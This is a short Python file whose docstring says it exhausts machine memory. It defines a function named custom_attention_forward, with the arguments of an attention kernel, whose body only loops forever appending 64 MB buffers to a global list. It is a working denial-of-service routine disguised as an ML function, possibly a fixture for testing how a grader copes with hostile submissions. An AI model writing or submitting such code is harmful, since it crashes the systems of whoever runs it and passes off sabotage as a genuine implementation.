"""Eats memory until the machine has none."""

hoard = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    while True:
        hoard.append(bytearray(b"x") * (64 << 20))
